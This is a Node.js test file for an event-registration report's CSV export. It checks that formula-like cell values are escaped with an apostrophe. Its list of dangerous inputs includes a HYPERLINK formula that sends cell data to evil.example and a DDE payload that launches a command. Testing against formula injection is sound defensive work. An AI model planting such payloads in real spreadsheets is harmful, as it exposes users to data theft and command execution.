import assert from 'node:assert/strict'
import { type TestContext, test } from 'node:test'
import { INSTANCE } from '#machinery/db/port.ts'
import { readCsv, readCsvRows } from '#test/support/csv.ts'
import { organization, registration } from '#test/support/organization.ts'
import { newRegistration } from '#test/support/requests.ts'
import { startWithOrganization } from '#test/support/server.ts'

/** A spreadsheet would take these texts for a formula, or they would push what follows into a cell of its own. */
const dangerous = [
  '=1+1',
  '+31612345678',
  '-5',
  '@SUM(A1:A9)',
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '＝1+1',
  '＋31',
  '－5',
  '＠SUM',
  ' =1+1',
  '\u00a0=1+1',
  '\u3000＝1',
  '\u0085=1',
  '\u2028=1',
  '\ufeff=1',
  ' \t \r\n -5',
  '\tno formula',
  '\rno formula',
  '\nno formula',
  '=',
  '-',
]

/** These texts are plain texts. */
const harmless = [
  '',
  "'",
  "'=1+1",
  '1=1',
  'a@b',
  '(=1)',
  '"=1+1"',
  '"',
  '""',
  'a,b;c\td',
  'two\r\nlines',
  'two\nlines\n',
  '🎟️ 👩‍👩‍👧 ümläut',
  ' leading and trailing ',
  '5',
  '1e9',
  'TRUE',
  '٣+٤',
  '−5',
  'x'.repeat(5000),
  `${'"'.repeat(2500)}${'\r\n'.repeat(1250)}`,
  '𝕏'.repeat(5000),
]

async function start(t: TestContext) {
  const server = await startWithOrganization(t)
  const path = `/reports/registrations?event_id=${server.eventId}`
  const csv = async () => (await server.client.get(`${path}&format=csv`)).text
  return { ...server, path, csv }
}

test('a cell that could be a formula has an apostrophe before it in CSV, and is raw in JSON and the database', async t => {
  const server = await start(t)
  const texts = [...dangerous, ...harmless]
  for (const text of texts) {
    const made = await server.client.post('/registrations', newRegistration(server, { answers: { a: text } }))
    assert.equal(made.status, 201, JSON.stringify(text))
  }
  const { body } = await server.client.get(server.path)
  assert.deepEqual(
    body.data.map((row: Record<string, string>) => row['answer:a']),
    texts,
  )
  const stored = await server.db.read(INSTANCE, tx =>
    tx.all<{ answers: string }>('SELECT answers FROM registrations ORDER BY created_at, id'),
  )
  assert.deepEqual(
    stored.map(({ answers }) => JSON.parse(answers).a),
    texts,
  )
  assert.deepEqual(
    readCsvRows(await server.csv()).map(row => row['answer:a']),
    [...dangerous.map(text => `'${text}`), ...harmless],
  )
})

test('every column that a person fills in is safe: names, e-mails, seats, types', async t => {
  const type = '=TYPE()'
  const file = organization({
    event: {
      registration_types: [{ name: type, price: 0, capacity: 9 }],
      registrations: [
        registration('a', {
          registration_type: type,
          buyer: { name: '=BUYER()', email: '=buyer@example.org' },
          attendees: [{ name: '@attendee', email: '+attendee@example.org', seat: '\t-1' }],
        }),
      ],
    },
  })
  const { client, eventId } = await startWithOrganization(t, file)
  const path = `/reports/registrations?event_id=${eventId}`
  const [row] = readCsvRows((await client.get(`${path}&format=csv`)).text)
  const [raw] = (await client.get(path)).body.data
  const typed = [
    'registration_type_name',
    'buyer_name',
    'buyer_email',
    'attendee_name',
    'attendee_email',
    'seat',
  ]
  for (const column of typed) assert.equal(row?.[column], `'${raw[column]}`, column)
  assert.deepEqual(
    typed.map(column => raw[column]),
    [type, '=BUYER()', '=buyer@example.org', '@attendee', '+attendee@example.org', '\t-1'],
  )
})

test('the file is UTF-8 with one byte-order mark, CRLF after every line, and every field in quotes', async t => {
  const server = await start(t)
  for (const text of ['a', '"', '\ufeff', '']) {
    await server.client.post('/registrations', newRegistration(server, { answers: { a: text } }))
  }
  const answer = await server.client.get(`${server.path}&format=csv`)
  assert.equal(answer.headers['content-type'], 'text/csv; charset=utf-8')
  assert.equal(
    answer.headers['content-disposition'],
    `attachment; filename="registrations-${server.eventId}.csv"`,
  )
  assert.ok(answer.text.startsWith('\ufeff"registration_id","status",'))
  assert.ok(answer.text.endsWith('"\r\n'))
  // The reader refuses a field without quotes, a bare line break after one, and a last line that does not end.
  const lines = readCsv(answer.text)
  assert.equal(lines.length, 5)
  assert.deepEqual(
    lines.slice(1).map(cells => cells.at(-1)),
    ['a', '"', '\ufeff', ''],
  )
})

test('figures, instants and booleans are as the server computed them', async t => {
  const file = organization({
    event: {
      registrations: [
        registration('a', {
          quantity: 2,
          amount_total: 9_999,
          processor_fee: 1,
          created_at: '2026-11-01T10:00:00Z',
        }),
      ],
    },
  })
  const { client, eventId } = await startWithOrganization(t, file)
  const [row] = readCsvRows((await client.get(`/reports/registrations?event_id=${eventId}&format=csv`)).text)
  const { quantity, amount_subtotal, amount_total, currency, created_at, checked_in, checked_in_at, voided } =
    row ?? {}
  assert.deepEqual(
    { quantity, amount_subtotal, amount_total, currency, created_at, checked_in, checked_in_at, voided },
    {
      quantity: '2',
      amount_subtotal: '10000',
      amount_total: '9999',
      currency: 'EUR',
      created_at: '2026-11-01T10:00:00.000Z',
      checked_in: 'false',
      checked_in_at: '',
      voided: 'false',
    },
  )
})

test('HEAD gives the headers of the report, and none of it', async t => {
  const server = await start(t)
  const head = await server.client.send('HEAD', `${server.path}&format=csv`)
  assert.deepEqual(
    [head.status, head.headers['content-type'], head.text],
    [200, 'text/csv; charset=utf-8', ''],
  )
  assert.equal((await server.client.send('HEAD', server.path)).text, '')
})
